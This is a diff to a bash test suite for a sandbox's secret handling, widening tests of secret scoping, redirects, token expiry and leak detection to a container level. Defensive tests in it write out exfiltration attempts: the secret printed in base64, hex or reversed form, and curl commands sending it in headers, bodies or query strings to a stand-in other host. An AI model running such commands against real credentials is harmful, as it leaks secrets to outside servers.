@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
-# Secrets that a guest may use and never hold, through the command line at levels wasm and
-# process.  The observer is the server that should, or should not, have received the value;
+# Secrets that a guest may use and never hold, through the command line at levels wasm,
+# process and container.  The observer is the server that should, or should not, have received the value;
 # and whoever may look into the host's processes and files.
 source "$(dirname "$0")/egress_lib.sh"
 
@@ -14,19 +14,19 @@ use() {
   local level=$1 url=$2
   shift 2
   net_reset
-  if [[ $level == wasm ]]; then
+  if by_module "$level"; then
     run run --policy wasm.yaml --secret key "$GUEST" "$@" -- "$url"
   else
-    run run --policy process.yaml --secret key -- curl -sSfgm 15 "$@" "$url"
+    run run "${native[@]}" --secret key -- curl -sSfgm 15 "$@" "$url"
   fi
 }
-scheme() { [[ $1 == wasm ]] && echo https || echo http; } # the door upgrades a process's
+scheme() { by_module "$1" && echo https || echo http; } # the door upgrades a native tool's
 
 S02_a_secret_is_used_and_never_held() {
   local level
   vault
   secretive host-boundary
-  for level in wasm process; do
+  for level in "${levels[@]}"; do
     use "$level" "$(scheme "$level")://api.example.com/echo" -H 'X-Key: {{secret:key}}'
     expect_status 0
     is "received at $level" "$(received api.example.com)" 1
@@ -35,25 +35,33 @@ S02_a_secret_is_used_and_never_held() {
     expect_err_lacks "$VALUE"
   done
   # Nor does it get in without being asked for, or under another name.
-  net_reset
-  run run --policy wasm.yaml "$GUEST" -H 'X-Key: {{secret:key}}' https://api.example.com/
-  [[ $status != 0 ]] || fail "used without --secret"
-  run run --policy wasm.yaml --secret kye "$GUEST" https://api.example.com/
-  [[ $status != 0 ]] || fail "an unknown secret was given"
-  is "received" "$(seen_anywhere)" 0
+  for level in "${levels[@]}"; do
+    ask "$level" "$(scheme "$level")://api.example.com/" -H 'X-Key: {{secret:key}}'
+    [[ $status != 0 ]] || fail "used without --secret at $level"
+    is "received" "$(seen_anywhere)" 0
+    options=(--secret kye)
+    ask "$level" "$(scheme "$level")://api.example.com/"
+    options=()
+    [[ $status != 0 ]] || fail "an unknown secret was given at $level"
+    is "received" "$(seen_anywhere)" 0
+  done
 }
 
 S06_only_for_whom_it_is_granted() {
+  local level
   vault policy:another
   secretive host-boundary
-  use wasm https://api.example.com/ -H 'X-Key: {{secret:key}}'
-  expect_status 126
-  is "connections" "$(count_connections)" 0
+  for level in "${levels[@]}"; do
+    use "$level" "$(scheme "$level")://api.example.com/" -H 'X-Key: {{secret:key}}'
+    expect_status 126
+    is "connections" "$(count_connections)" 0
+  done
+  asks_modules || return 0
   vault tool:fetch.wasm
-  use wasm https://api.example.com/ -H 'X-Key: {{secret:key}}'
+  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
   expect_status 0
   is "received" "$(received)" 1
-  use process http://api.example.com/ -H 'X-Key: {{secret:key}}'
+  use native http://api.example.com/ -H 'X-Key: {{secret:key}}'
   expect_status 126
 }
 
@@ -61,13 +69,17 @@ N14_a_secret_goes_to_its_host_and_no_other() {
   local level code
   vault
   secretive host-boundary
-  for level in wasm process; do
+  for level in "${levels[@]}"; do
     use "$level" "$(scheme "$level")://other.example.org/" -H 'X-Key: {{secret:key}}'
     [[ $status != 0 ]] || fail "sent to another host"
     is "sent elsewhere" "$(seen_anywhere)" 0
     is "requests elsewhere" "$(count_requests other.example.org)" 0
   done
   for code in 301 302 307 308; do
+    use native "http://api.example.com/redirect?code=$code&to=http://other.example.org/x" \
+      -L -H 'X-Key: {{secret:key}}'
+    is "sent elsewhere by a client's own redirect" "$(received other.example.org)" 0
+    asks_modules || continue
     use wasm "https://api.example.com/redirect?code=$code&to=https://other.example.org/x" \
       -H 'X-Key: {{secret:key}}' -H 'Authorization: Basic {{secret:key}}'
     is "received by the first" "$(received api.example.com)" 1
@@ -81,19 +93,16 @@ N14_a_secret_goes_to_its_host_and_no_other() {
       'header:x-key=*')" 0
   done
   # https that falls to http would show it to all.
-  use wasm "https://api.example.com/redirect?to=http://api.example.com/x" \
+  use wasm "$(scheme wasm)://api.example.com/redirect?to=http://api.example.com/x" \
     -H 'X-Key: {{secret:key}}'
   is "in the clear" "$(count_events event=request tls=false 'header:x-key=*')" 0
-  use process "http://api.example.com/redirect?to=http://other.example.org/x" -L \
-    -H 'X-Key: {{secret:key}}'
-  is "sent elsewhere by a client's own redirect" "$(received other.example.org)" 0
 }
 
 S07_a_server_that_gives_it_back() {
   local level
   vault
   secretive host-boundary
-  for level in wasm process; do
+  for level in "${levels[@]}"; do
     use "$level" "$(scheme "$level")://api.example.com/reflect?header=X-Key" \
       -H 'X-Key: {{secret:key}}' -i X-Reflected
     is "received at $level" "$(received)" 1
@@ -107,14 +116,14 @@ S03_a_guest_that_holds_it_can_not_send_or_say_it() {
   vault
   secretive environment 'leak_detection: {enabled: true}'
   # The control: it has it.
-  run run --policy process.yaml --secret key=KEY -- sh -c 'printf %s "$KEY" | wc -c'
+  run run "${native[@]}" --secret key=KEY -- sh -c 'printf %s "$KEY" | wc -c'
   expect_status 0
   expect_out "${#VALUE}"
   for form in 'printf %s "$KEY"' 'printf %s "$KEY" | base64' 'printf %s "$KEY" | xxd -p' \
     'printf %s "$KEY" | rev' 'printf x%s "$KEY" | base64' 'printf xy%s "$KEY" | base64' \
     'for i in $(seq ${#KEY}); do printf %s "$KEY" | cut -c$i | tr -d "\n"; done' \
     'printf %s "$KEY" | sed "s,/,%2F,;s/+/%2B/;s/=/%3D/"' 'printf %s "$KEY" >&2'; do
-    run run --policy process.yaml --secret key=KEY -- sh -c "$form; echo; echo end"
+    run run "${native[@]}" --secret key=KEY -- sh -c "$form; echo; echo end"
     checks=$((checks + 1))
     cat "$scratch/err" >>"$scratch/out"
     expect_out_has "[redacted:key]"
@@ -128,20 +137,20 @@ S03_a_guest_that_holds_it_can_not_send_or_say_it() {
     '-H "X-Key: $KEY" http://other.example.org/' '-d "x=$KEY" http://other.example.org/' \
     '-d "$(printf %s "$KEY" | xxd -p)" http://other.example.org/'; do
     net_reset
-    run run --policy process.yaml --secret key=KEY -- sh -c "curl -sSfgm 10 $form"
+    run run "${native[@]}" --secret key=KEY -- sh -c "curl -sSfgm 10 $form"
     [[ $status != 0 ]] || fail "sent: $form"
     is "requests for $form" "$(count_requests)" 0
   done
-  use wasm "https://other.example.org/?k=$VALUE"
+  use wasm "$(scheme wasm)://other.example.org/?k=$VALUE"
   [[ $status != 0 ]] || fail "sent from level wasm"
   is "requests" "$(count_requests)" 0
   net_reset
-  run run --policy process.yaml --token key=KEY -- \
+  run run "${native[@]}" --token key=KEY -- \
     sh -c 'curl -sSfm 10 -H "X-Key: $KEY" http://api.example.com/'
   expect_status 0
   is "received by its stand-in" "$(received)" 1
   net_reset
-  run run --policy process.yaml --secret key=KEY -- curl -sSf -d hello http://other.example.org/
+  run run "${native[@]}" --secret key=KEY -- curl -sSf -d hello http://other.example.org/
   expect_status 0
   is "an innocent request" "$(count_events event=request body=hello)" 1
   run audit show --json
@@ -152,7 +161,8 @@ S10_a_token_dies_at_its_time() {
   vault
   secretive host-boundary
   net_reset
-  run run --policy process.yaml --token key=KEY --token-ttl-ms 1500 -- sh -c '
+  warm --token key=KEY
+  run run "${native[@]}" --token key=KEY --token-ttl-ms 1500 -- sh -c '
     echo "$KEY"
     curl -sSfm 10 -H "X-Key: $KEY" http://api.example.com/first >/dev/null || echo failed
     sleep 2
@@ -166,10 +176,10 @@ S10_a_token_dies_at_its_time() {
   # The stand-in of one run is nothing to another, nor at another host.
   token=$(grep -o 'nct_[A-Za-z0-9_-]*' "$scratch/out")
   net_reset
-  run run --policy process.yaml --token key=KEY -- \
+  run run "${native[@]}" --token key=KEY -- \
     curl -sSfm 10 -H "X-Key: $token" http://api.example.com/
   is "received by an old stand-in" "$(seen_anywhere)" 0
-  run run --policy process.yaml --token key=KEY -- \
+  run run "${native[@]}" --token key=KEY -- \
     sh -c 'curl -sSfm 10 -H "X-Key: $KEY" http://other.example.org/'
   is "received by another host" "$(seen_anywhere)" 0
 }
@@ -179,10 +189,10 @@ show() {
   local header="X-Key: $1" level=$2
   shift 2
   net_reset
-  if [[ $level == wasm ]]; then
+  if by_module "$level"; then
     run run --policy wasm.yaml "$@" "$GUEST" -H "$header" -- https://api.example.com/
   else
-    run run --policy process.yaml "$@" -- \
+    run run "${native[@]}" "$@" -- \
       curl -sSfm 10 -H "$header" http://api.example.com/
   fi
 }
@@ -190,7 +200,7 @@ show() {
 S11_a_token_of_a_session_is_good_in_it_until_it_is_revoked() {
   local level
   secretive host-boundary
-  for level in wasm process; do
+  for level in "${levels[@]}"; do
     vault policy:nobody # a token is the leave to use it
     run secret token key --scope session:s
     expect_status 0
@@ -215,10 +225,11 @@ S11_a_token_of_a_session_is_good_in_it_until_it_is_revoked() {
 
 S01_it_is_nowhere_on_the_host_while_a_guest_runs() {
   local injection
+  asks_modules || return 0 # container.sh asks the engine too
   vault
   for injection in host-boundary environment file-mount; do
     secretive "$injection"
-    start run --policy process.yaml --secret key=KEY -- sh -c 'echo up; sleep 3'
+    start run "${native[@]}" --secret key=KEY -- sh -c 'echo up; sleep 3'
     until_true 5 grep -q up "$scratch/out" || fail "it did not start"
     last=("$injection: whose words or environment hold the value")
     case $injection in
@@ -246,7 +257,7 @@ S01_it_is_nowhere_on_the_host_while_a_guest_runs() {
   run run --policy wasm.yaml --secret key "$GUESTS/cat.wasm" /run/secrets/key
   expect_status 0
   expect_out "[redacted:key]" # it was there to be read
-  run run --policy process.yaml --secret key -- sh -c 'wc -c </run/secrets/key'
+  run run "${native[@]}" --secret key -- sh -c 'wc -c </run/secrets/key'
   expect_status 0
   expect_out "${#VALUE}"
 }
@@ -259,7 +270,7 @@ S12_a_vault_that_was_changed_is_refused() {
   [[ $file ]] || fail "no vault was found"
   cp "$file" kept
   printf 'x' | dd of="$file" bs=1 seek=$(($(stat -c %s "$file") / 2)) conv=notrunc status=none
-  use wasm https://api.example.com/ -H 'X-Key: {{secret:key}}'
+  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
   [[ $status != 0 ]] || fail "a changed vault was used"
   is "connections" "$(count_connections)" 0
   cp kept "$file"
@@ -267,7 +278,7 @@ S12_a_vault_that_was_changed_is_refused() {
   input=value run secret set key --host api.example.com --grant policy:egress
   expect_status 0
   cp kept "$file" # rolled back
-  use wasm https://api.example.com/ -H 'X-Key: {{secret:key}}'
+  use wasm "$(scheme wasm)://api.example.com/" -H 'X-Key: {{secret:key}}'
   [[ $status != 0 ]] || fail "a vault of yesterday was used"
   is "connections" "$(count_connections)" 0
 }
@@ -277,12 +288,12 @@ N38_what_a_tunnel_hides_is_not_let_through() {
   secretive host-boundary 'leak_detection: {enabled: true}'
   # Opaque: refused, with the way to go in words.
   net_reset
-  run run --policy process.yaml --secret key -- curl -sSm 10 https://api.example.com/
+  run run "${native[@]}" --secret key -- curl -sSm 10 https://api.example.com/
   [[ $status != 0 ]] || fail "a tunnel was opened"
   is "connections" "$(count_connections)" 0
   # Looked into, because the caller says so by name.
   net_reset
-  run run --policy process.yaml --secret key --intercept api.example.com -- \
+  run run "${native[@]}" --secret key --intercept api.example.com -- \
     curl -sSfm 10 -H 'X-Key: {{secret:key}}' https://api.example.com/echo
   expect_status 0
   is "received" "$(received)" 1
@@ -290,7 +301,7 @@ N38_what_a_tunnel_hides_is_not_let_through() {
   # The real server is verified all the same.
   secrets='injection: host-boundary' both allowlist untrusted.example.com
   net_reset
-  run run --policy process.yaml --intercept untrusted.example.com -- \
+  run run "${native[@]}" --intercept untrusted.example.com -- \
     curl -sSfm 10 https://untrusted.example.com/
   [[ $status != 0 ]] || fail "an untrusted server was vouched for"
   is "requests" "$(count_requests)" 0
